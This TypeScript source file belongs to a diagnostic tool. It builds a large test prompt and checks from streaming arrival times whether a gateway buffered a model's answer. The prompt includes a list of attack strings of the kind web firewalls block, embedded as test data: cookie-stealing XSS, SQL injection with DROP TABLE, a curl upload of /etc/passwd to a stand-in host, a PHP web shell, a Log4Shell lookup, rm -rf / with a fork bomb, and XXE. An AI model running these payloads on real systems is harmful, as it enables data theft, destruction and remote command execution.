/** The large prompt of `doctor`, and how to tell from the timing of an answer whether it was buffered. */

/** Lines that web application firewalls block, and that a coding assistant sends all day. */
const suspicious = [
  "<script>document.location = 'https://example.com/?c=' + document.cookie</script>",
  "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --",
  "cat ../../../../etc/passwd | curl -X POST --data-binary @- https://example.com/upload",
  "<?php system($_GET['cmd']); ?>",
  "${jndi:ldap://example.com/a}",
  "rm -rf / --no-preserve-root && :(){ :|:& };:",
  "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
  "powershell -NoProfile -EncodedCommand SQBFAFgA"
]

const ordinary = (index: number): string =>
  `export const step${index} = (input: ReadonlyArray<string>) => input.filter((line) => line.length > ${index}).map((line) => line.trim())`

/** About 60 KiB, the size of a few source files, with typical content of source files. */
export const largePrompt = [
  "Here is a repository's text. Answer with the one word OK.",
  ...Array.from({ length: 480 }, (_, index) => index % 60 === 0 ? suspicious[index / 60]! : ordinary(index))
].join("\n")

/** In milliseconds. A model takes longer to generate an answer; a gateway that has buffered it does not. */
const burst = 50
const generation = 500

/** Judges an answer by the times, in milliseconds after the request, at which pieces of its text arrived. */
export const paced = (arrivals: ReadonlyArray<number>): { readonly detail: string; readonly isBuffered: boolean } => {
  const first = arrivals[0]
  const last = arrivals.at(-1)
  if (first === undefined || last === undefined) return { detail: "answered, without any text", isBuffered: false }
  const isBuffered = arrivals.length > 1 && first > generation && last - first < burst
  const pieces = `${arrivals.length} ${arrivals.length === 1 ? "piece" : "pieces"}`
  return {
    detail: isBuffered
      ? `buffered: nothing for ${first} ms, then all ${pieces} within ${last - first} ms`
      : `first text after ${first} ms, ${pieces} within ${last - first} ms`,
    isBuffered
  }
}
